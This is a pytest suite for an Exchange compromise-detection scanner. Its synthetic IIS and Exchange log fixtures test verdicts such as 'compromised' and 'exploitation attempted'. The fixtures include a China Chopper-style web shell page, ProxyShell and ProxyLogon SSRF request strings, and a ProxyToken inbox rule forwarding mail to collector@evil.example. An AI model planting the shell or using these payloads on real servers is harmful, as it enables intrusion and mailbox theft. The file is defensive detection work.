"""The verdict model end to end (docs/verdicts.md): the cases of issue #11 that must come out right, each
on a host tree scanned by `exhunt scan` with the shipped content.

SYNTHETIC fixtures: log lines in the real IIS 10 / Exchange 2019 HttpProxy / ECP Server layouts, values
made up (documentation addresses 203.0.113.0/24, 198.51.100.0/24). The corpus tests read the real public
logs of `../shared/corpus/` (copied into a temporary host tree, never into the repository) and skip when
the folder is absent.
"""

from __future__ import annotations

import os
import random
import shutil
from datetime import datetime
from pathlib import Path
from typing import Any

import orjson
import pytest

from exhunt.cli.main import main
from logfixtures import HTTPPROXY_FIELDS, exchange_header, httpproxy_line, httpproxy_values, iis_header

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "corpus"
V15 = "C/Program Files/Microsoft/Exchange Server/V15"
IIS_DIR = "C/inetpub/logs/LogFiles/W3SVC1"
ECP_FIELDS = ("DateTime,ServerName,RequestId,ActivityId,ProcessId,ThreadId,AuthenticatedUser,ClientIpAddress,"
              "UrlStem,HttpMethod,HttpStatus,Cmdlet,ActivityContextLifeTime,GenericInfo,GenericErrors")
# real crawler user agents, as IIS writes them ('+' for spaces); they equal crawler look-alikes of the
# March 2021 indicator list
CRAWLERS = ("Mozilla/5.0+(compatible;+bingbot/2.0;++http://www.bing.com/bingbot.htm)",
            "facebookexternalhit/1.1+(+http://www.facebook.com/externalhit_uatext.php)",
            "Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)",
            "Googlebot/2.1+(+http://www.googlebot.com/bot.html)")
BROWSER = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0"


def scan(tmp_path: Path, host: Path) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    out = tmp_path / f"{host.name}.jsonl"
    main(["scan", str(host), "-f", "jsonl", "-o", str(out), "--no-progress"])
    lines = [orjson.loads(line) for line in out.read_bytes().splitlines()]
    result = next(line for line in lines if line["type"] == "host")
    return result, [line for line in lines if line["type"] == "finding"]


def write(root: Path, rel: str, text: str | bytes, mtime: str | None = None) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="")
    if mtime:
        stamp = datetime.fromisoformat(mtime.replace("Z", "+00:00")).timestamp()
        os.utime(path, (stamp, stamp))
    return path


def iis(day: str, rows: list[tuple[str, str, str, str, str, int]], port: int = 443) -> str:
    """rows: (time, method, stem, client, user agent, status)."""
    lines = [f"{day} {t} 10.0.0.5 {m} {s} - {port} - {c} {ua} - {st} 0 0 15" for t, m, s, c, ua, st in rows]
    return iis_header(day) + "\r\n".join(lines) + "\r\n"


def by_rule(findings: list[dict[str, Any]], rule_id: str) -> list[dict[str, Any]]:
    return [f for f in findings if f["rule_id"] == rule_id]


# ---- crawlers on a non-Exchange site ------------------------------------------------------------------------

def test_crawler_user_agents_on_a_plain_site_are_no_sign_found(tmp_path: Path) -> None:
    host = tmp_path / "www01"
    rows = [(f"0{h}:1{h}:00", "GET", page, f"66.249.66.{h}", ua, 200)
            for h, (page, ua) in enumerate(zip(("/", "/about.aspx", "/news/index.aspx", "/contact.aspx"),
                                               CRAWLERS, strict=True))]
    rows.append(("09:00:00", "GET", "/products.aspx", "192.0.2.10", BROWSER, 200))
    write(host, f"{IIS_DIR}/u_ex210303.log", iis("2021-03-03", rows))
    result, findings = scan(tmp_path, host)
    agents = by_rule(findings, "EXH-IOC-USER-AGENT")
    assert agents, "the crawler look-alike indicators still match (and are shown)"
    assert all(f["evidence_class"] == "weak" and f["severity"] == "low" for f in agents)
    assert result["verdict"] == "no sign found"
    assert any("weak indicator" in r for r in result["verdict_reasons"])
    assert result["timeline"] == []


PROBES = [("10:00:00", "POST", "/ecp/y.js", "198.51.100.7", "python-requests/2.25.1", 404),
          ("10:00:01", "POST", "/owa/auth/x.js", "198.51.100.7", "python-requests/2.25.1", 404)]


def test_exchange_probes_answered_404_on_a_site_without_exchange_are_context(tmp_path: Path) -> None:
    host = tmp_path / "www02"
    write(host, f"{IIS_DIR}/u_ex210310.log", iis("2021-03-10", [
        *PROBES, ("10:05:00", "GET", "/", "66.249.66.1", CRAWLERS[0], 200)]))
    result, findings = scan(tmp_path, host)
    [probe] = by_rule(findings, "EXH-PL-26855-IIS-POST")
    assert probe["evidence_class"] == "context" and probe["attributes"]["not_applicable"]
    assert "nothing to exploit" in probe["description"]
    assert result["verdict"] == "no sign found"


def test_proxyshell_probe_redirected_by_a_site_without_exchange_is_not_a_success(tmp_path: Path) -> None:
    host = tmp_path / "www03"
    stem = "/autodiscover/autodiscover.json"
    write(host, f"{IIS_DIR}/u_ex210810.log", iis("2021-08-10", [
        ("10:00:00", "GET", stem, "198.51.100.8", "Mozilla/5.0+zgrab/0.x", 302)]).replace(
        f"{stem} - 443", f"{stem} @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example 443"))
    result, findings = scan(tmp_path, host)
    [probe] = by_rule(findings, "EXH-PS-IIS-AUTODISCOVER-SSRF")
    assert probe["outcome"] == "attempted" and probe["attributes"]["ungraded"]
    assert result["verdict"] == "exploitation attempted"


def test_the_same_probes_on_an_exchange_host_stay_attempts(tmp_path: Path) -> None:
    host = tmp_path / "ex31"
    write(host, f"{IIS_DIR}/u_ex210310.log", iis("2021-03-10", PROBES))
    rng = random.Random(5)
    write(host, f"{V15}/Logging/HttpProxy/Owa/HttpProxy_2021031010-1.LOG",
          exchange_header("HttpProxy Logs", HTTPPROXY_FIELDS, "2021-03-10")
          + httpproxy_line(httpproxy_values(rng, "2021-03-10", 36000, "Owa")) + "\r\n")
    result, findings = scan(tmp_path, host)
    [probe] = by_rule(findings, "EXH-PL-26855-IIS-POST")
    assert probe["evidence_class"] == "attempt"
    assert result["verdict"] == "exploitation attempted"


def _iis_host_of(tmp_path: Path, folder: Path) -> Path:
    host = tmp_path / folder.name
    for log in sorted(folder.glob("*.log")):
        write(host, f"{IIS_DIR}/{log.name}", log.read_bytes())
    return host


@pytest.mark.parametrize("name", ["plaso", "brianary"])
def test_corpus_weblogs_are_never_attempted(tmp_path: Path, name: str) -> None:
    folder = CORPUS / "weblogs" / name
    if not folder.is_dir():
        pytest.skip(f"shared corpus not present: {folder}")
    result, findings = scan(tmp_path, _iis_host_of(tmp_path, folder))
    strong = [f["rule_id"] for f in findings if f["evidence_class"] in ("compromise", "attempt")]
    assert result["verdict"] == "no sign found", (result["verdict"], strong)
    assert any(s["source"] == "iis" and s["records"] > 0 for s in result["coverage"]["sources"])


# ---- benign EVTX folders without Exchange logs --------------------------------------------------------------

@pytest.mark.parametrize("name", ["omerbenamram-evtx", "chainsaw", "plaso"])
def test_corpus_benign_evtx_is_no_sign_found_with_what_was_not_checked(tmp_path: Path, name: str) -> None:
    folder = CORPUS / "evtx" / name
    if not folder.is_dir():
        pytest.skip(f"shared corpus not present: {folder}")
    host = tmp_path / name
    shutil.copytree(folder, host / "C" / "Windows" / "System32" / "winevt" / "Logs")
    result, findings = scan(tmp_path, host)
    assert result["verdict"] == "no sign found", [(f["rule_id"], f["evidence_class"]) for f in findings]
    notes = " ".join(result["coverage"]["notes"])
    assert "HttpProxy logs missing: not checked" in notes and "IIS W3C logs missing: not checked" in notes
    assert any("could not be checked" in r for r in result["verdict_reasons"])


# ---- Exchange hosts -----------------------------------------------------------------------------------------

def _httpproxy(day: str, changes: list[dict[str, str]], protocol: str = "Ecp") -> str:
    rng = random.Random(11)
    lines = []
    for second, change in enumerate(changes):
        values = httpproxy_values(rng, day, 3600 + second * 60, protocol)
        values.update(change)
        lines.append(httpproxy_line(values))
    return exchange_header("HttpProxy Logs", HTTPPROXY_FIELDS, day) + "\r\n".join(lines) + "\r\n"


def _exporttool(second: int, client: str) -> dict[str, str]:
    return {"UrlStem": "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
            "Method": "GET", "IsAuthenticated": "False", "AuthenticatedUser": "", "AnchorMailbox": "",
            "AuthenticationType": "", "RoutingHint": "AnonymousResourceBackend", "ClientIpAddress": client,
            "UserAgent": "Mozilla/5.0 zgrab/0.x", "HttpStatus": "200", "BackEndStatus": "200",
            "DateTime": f"2021-06-01T10:{second:02d}:00.000Z"}


def test_exporttool_manifest_is_known_benign_not_proxylogon(tmp_path: Path) -> None:
    host = tmp_path / "ex20"
    rows = [_exporttool(i, f"198.51.100.{40 + i}") for i in range(3)]
    write(host, f"{V15}/Logging/HttpProxy/Ecp/HttpProxy_2021060110-1.LOG", _httpproxy("2021-06-01", rows))
    write(host, f"{IIS_DIR}/u_ex210601.log", iis("2021-06-01", [
        ("10:00:00", "GET", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
         "198.51.100.40", "Mozilla/5.0+zgrab/0.x", 200)]))
    result, findings = scan(tmp_path, host)
    [benign] = by_rule(findings, "EXH-PL-26855-ANON-BACKEND")
    assert benign["status"] == "suppressed: known benign" and benign["evidence_class"] == "known-benign"
    assert benign["attributes"]["known_benign"] == ["EXH-BENIGN-ECP-EXPORTTOOL"]
    assert benign["attributes"]["known_benign_reference"][0].startswith("https://")
    assert benign["evidence_total"] == 3, "nothing dropped: every request is still cited"
    assert result["verdict"] == "no sign found"
    assert any("known benign" in r for r in result["verdict_reasons"])


def test_exporttool_next_to_a_real_anonymous_request_does_not_hide_it(tmp_path: Path) -> None:
    host = tmp_path / "ex21"
    real = dict(_exporttool(5, "203.0.113.7"), UrlStem="/ecp/DDI/DDIService.svc/SetObject", Method="POST")
    write(host, f"{V15}/Logging/HttpProxy/Ecp/HttpProxy_2021060110-1.LOG",
          _httpproxy("2021-06-01", [_exporttool(1, "198.51.100.40"), real]))
    result, findings = scan(tmp_path, host)
    classes = sorted((f["outcome"], f["evidence_class"]) for f in by_rule(findings, "EXH-PL-26855-ANON-BACKEND"))
    assert classes == [("informational", "known-benign"), ("suspicious", "attempt")]
    assert result["verdict"] == "exploitation attempted"


def test_python_requests_scanner_is_weak_alone_and_corroborates_the_same_client(tmp_path: Path) -> None:
    host = tmp_path / "ex22"
    ua = "python-requests/2.25.1"
    write(host, f"{IIS_DIR}/u_ex210305.log", iis("2021-03-05", [
        ("08:00:00", "GET", "/owa/", "198.51.100.9", ua, 302),
        ("08:00:01", "GET", "/owa/auth/logon.aspx", "198.51.100.9", ua, 200)]))
    alone, findings = scan(tmp_path, host)
    [scanner] = by_rule(findings, "EXH-IOC-USER-AGENT")
    assert scanner["severity"] == "low" and scanner["evidence_class"] == "weak"
    assert scanner["attributes"]["client_ip"] == ["198.51.100.9"]
    assert alone["verdict"] == "no sign found"

    host2 = tmp_path / "ex23"
    write(host2, f"{IIS_DIR}/u_ex210305.log", iis("2021-03-05", [
        ("08:00:00", "GET", "/owa/", "198.51.100.9", ua, 302),
        ("08:00:05", "POST", "/ecp/y.js", "198.51.100.9", ua, 500)]))
    result, findings = scan(tmp_path, host2)
    [attempt] = [f for f in by_rule(findings, "EXH-PL-26855-IIS-POST")]
    assert attempt["evidence_class"] == "attempt"
    assert attempt["confidence"] == "high"  # medium, raised by the scanner of the same client
    assert any("same client 198.51.100.9" in v for v in attempt["attributes"]["corroborated_by"])
    [scanner] = by_rule(findings, "EXH-IOC-USER-AGENT")
    assert scanner["attributes"]["corroborates"] == ["EXH-PL-26855-IIS-POST"]
    assert result["verdict"] == "exploitation attempted"


def test_vendor_backup_zip_in_programdata_is_weak(tmp_path: Path) -> None:
    host = tmp_path / "ex24"
    write(host, f"{IIS_DIR}/u_ex210305.log", iis("2021-03-05", [
        ("08:00:00", "GET", "/owa/", "10.0.0.31", BROWSER, 302)]))
    write(host, "C/ProgramData/Contoso Backup Agent/Backups/config-2021-03-01.zip",
          b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(40), mtime="2021-03-01T02:00:00Z")
    result, findings = scan(tmp_path, host)
    [zipped] = by_rule(findings, "EXH-FILE-ARCHIVE-PROGRAMDATA")
    assert zipped["evidence_class"] == "weak" and "Weak alone" in zipped["description"]
    assert result["verdict"] == "no sign found"


@pytest.mark.parametrize(("rel", "head", "why"), [
    ("C/ProgramData/Contoso Backup Agent/Backups/mail.zip", b"PK\x03\x04\x14\x00\x01\x00\x08\x00", "encrypted"),
    ("C/ProgramData/out.zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00", "where intruders stage"),
])
def test_corroborated_staging_moves_the_verdict(tmp_path: Path, rel: str, head: bytes, why: str) -> None:
    host = tmp_path / "ex25"
    write(host, f"{IIS_DIR}/u_ex210305.log", iis("2021-03-05", [
        ("08:00:00", "GET", "/owa/", "10.0.0.31", BROWSER, 302)]))
    write(host, rel, head + bytes(40), mtime="2021-03-01T02:00:00Z")
    result, findings = scan(tmp_path, host)
    [zipped] = by_rule(findings, "EXH-FILE-ARCHIVE-PROGRAMDATA")
    assert zipped["evidence_class"] == "attempt" and why in zipped["attributes"]["corroborated"][0]
    # staged data with no exploit in the logs: suspicious activity on the host, not an exploitation attempt
    assert result["verdict"] == "suspicious activity"


CHOPPER_PAGE = ('<%@ Page Language="C#" AutoEventWireup="true" %>\r\n<!DOCTYPE html>\r\n<html><head>'
                '<title>Outlook</title></head><body><form id="logonForm" method="post">\r\n'
                '<script language="JScript" runat="server">function Page_Load(){eval(Request["cmd"],"unsafe");}'
                '</script>\r\n</form></body></html>\r\n')


def test_chopper_in_a_stock_page_before_the_logs_is_compromised_and_says_why(tmp_path: Path) -> None:
    host = tmp_path / "ex26"
    write(host, f"{V15}/FrontEnd/HttpProxy/owa/auth/errorFE.aspx", CHOPPER_PAGE, mtime="2021-03-03T04:10:00Z")
    rng = random.Random(3)
    rows = [httpproxy_values(rng, "2021-04-20", 3600 + i, "Owa") for i in range(3)]
    write(host, f"{V15}/Logging/HttpProxy/Owa/HttpProxy_2021042001-1.LOG",
          exchange_header("HttpProxy Logs", HTTPPROXY_FIELDS, "2021-04-20")
          + "\r\n".join(httpproxy_line(r) for r in rows) + "\r\n")
    write(host, f"{IIS_DIR}/u_ex210420.log", iis("2021-04-20", [
        ("01:00:00", "GET", "/owa/auth/logon.aspx", "10.0.0.31", BROWSER, 200)]))
    result, findings = scan(tmp_path, host)
    shells = [f for f in findings if f["detector"] == "yara"]
    assert shells and all(f["evidence_class"] == "compromise" for f in shells)
    assert result["verdict"] == "compromised"
    sentence = next(r for r in result["verdict_reasons"] if "errorFE.aspx" in r)
    assert "logs begin 2021-04-20" in sentence and "how it got there cannot be told from the logs" in sentence


def test_foreign_page_served_from_owa_auth_is_flagged_from_logs_alone(tmp_path: Path) -> None:
    host = tmp_path / "ex27"  # the published March 2021 case: no file, logs only
    write(host, f"{IIS_DIR}/u_ex210303.log", iis("2021-03-03", [
        ("03:10:00", "GET", "/owa/auth/RedirSuiteServerProxy.aspx", "203.0.113.7", BROWSER, 200),
        ("03:11:00", "GET", "/owa/auth/RedirSuiteServiceProxy.aspx", "10.0.0.31", BROWSER, 200),
        ("03:12:00", "GET", "/owa/auth/logon.aspx", "10.0.0.31", BROWSER, 200)]))
    result, findings = scan(tmp_path, host)
    [access] = by_rule(findings, "EXH-WS-IIS-FOREIGN-PAGE")
    assert access["attributes"]["url"] == ["/owa/auth/RedirSuiteServerProxy.aspx"]
    assert access["severity"] == "high" and access["outcome"] == "suspicious"
    assert result["verdict"] in ("exploitation attempted", "compromised")


def test_proxylogon_241_through_the_ssrf_is_succeeded(tmp_path: Path) -> None:
    host = tmp_path / "ex28"
    write(host, f"{V15}/Logging/HttpProxy/Ecp/HttpProxy_2021030302-1.LOG", _httpproxy("2021-03-03", [{
        "UrlStem": "/ecp/y.js", "AnchorMailbox": "ServerInfo~a]@EX01.contoso.local:444/ecp/proxyLogon.ecp?#",
        "Method": "POST", "HttpStatus": "241", "BackEndStatus": "", "AuthenticatedUser": "",
        "IsAuthenticated": "False", "ClientIpAddress": "203.0.113.7", "UserAgent": "python-requests/2.25.1"}]))
    write(host, f"{IIS_DIR}/u_ex210303.log", iis("2021-03-03", [
        ("02:01:00", "POST", "/ecp/proxyLogon.ecp", "10.0.0.5", "python-requests/2.25.1", 241)], port=444))
    result, findings = scan(tmp_path, host)
    assert [f["outcome"] for f in by_rule(findings, "EXH-PL-26855-SSRF")] == ["succeeded"]
    assert [f["outcome"] for f in by_rule(findings, "EXH-PL-26855-IIS-PROXYLOGON-241")] == ["succeeded"]
    assert result["verdict"] == "compromised"


def _proxytoken_host(tmp_path: Path, name: str, with_rule: bool, build: str = "15.02.0858.005") -> Path:
    host = tmp_path / name
    write(host, f"{IIS_DIR}/u_ex210815.log", iis("2021-08-15", [
        ("10:00:00", "POST", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject", "203.0.113.9",
         "python-requests/2.26.0", 200)]).replace(
        "/NewObject - 443", "/NewObject SecurityToken=&msExchEcpCanary=a1b2c3d4 443"))
    rows = ["2021-08-15T09:00:00.000Z,EX01,r1,a1,7316,15,CONTOSO\\alice,10.10.20.21,/ecp/DDI/DDIService.svc/GetList,"
            "POST,200,Get-Mailbox,120,S:CMD=Get-Mailbox.Identity='alice',"]
    if with_rule:
        rows.append("2021-08-15T10:00:01.000Z,EX01,r2,a2,7316,16,victim@contoso.com,203.0.113.9,"
                    "/ecp/RulesEditor/InboxRules.svc/NewObject,POST,200,New-InboxRule,88,"
                    "S:CMD=New-InboxRule.Mailbox=victim@contoso.com;Name=.;ForwardTo=collector@evil.example,")
    write(host, f"{V15}/Logging/ECP/Server/ECPServer2021081509-1.LOG",
          f"#Software: Microsoft Exchange Server\r\n#Version: {build}\r\n#Log-type: ECP Server Logs\r\n"
          f"#Date: 2021-08-15T09:00:00.000Z\r\n#Fields: {ECP_FIELDS}\r\n" + "\r\n".join(rows) + "\r\n")
    return host


def test_proxytoken_succeeded_when_the_inbox_rule_is_logged(tmp_path: Path) -> None:
    result, findings = scan(tmp_path, _proxytoken_host(tmp_path, "ex29", with_rule=True))
    [request] = by_rule(findings, "EXH-PT-IIS-ECP-SECURITYTOKEN")
    assert request["outcome"] == "succeeded" and request["severity"] == "critical"
    assert request["attributes"]["forward_to"] == ["collector@evil.example"]
    assert request["attributes"]["inbox_rule"] == ["."]
    assert request["attributes"]["exposure"] == ["exposed"]  # CU9 RTM: ProxyToken open then
    assert "collector@evil.example" in request["description"]
    [rule] = by_rule(findings, "EXH-PT-ECP-INBOX-RULE-FORWARD")
    assert rule["outcome"] == "confirmed"
    assert result["verdict"] == "compromised"


def test_proxytoken_without_the_inbox_rule_is_an_attempt(tmp_path: Path) -> None:
    result, findings = scan(tmp_path, _proxytoken_host(tmp_path, "ex30", with_rule=False))
    [request] = by_rule(findings, "EXH-PT-IIS-ECP-SECURITYTOKEN")
    assert request["outcome"] == "attempted" and "no inbox rule it created is logged" in request["description"]
    assert result["verdict"] == "exploitation attempted"


def test_proxytoken_on_a_build_already_patched_is_an_attempt(tmp_path: Path) -> None:
    host = _proxytoken_host(tmp_path, "ex32", with_rule=True, build="15.02.0922.013")  # CU10 Jul21SU
    result, findings = scan(tmp_path, host)
    [request] = by_rule(findings, "EXH-PT-IIS-ECP-SECURITYTOKEN")
    assert request["outcome"] == "attempted" and request["attributes"]["exposure"] == ["patched"]
    assert result["verdict"] == "exploitation attempted"
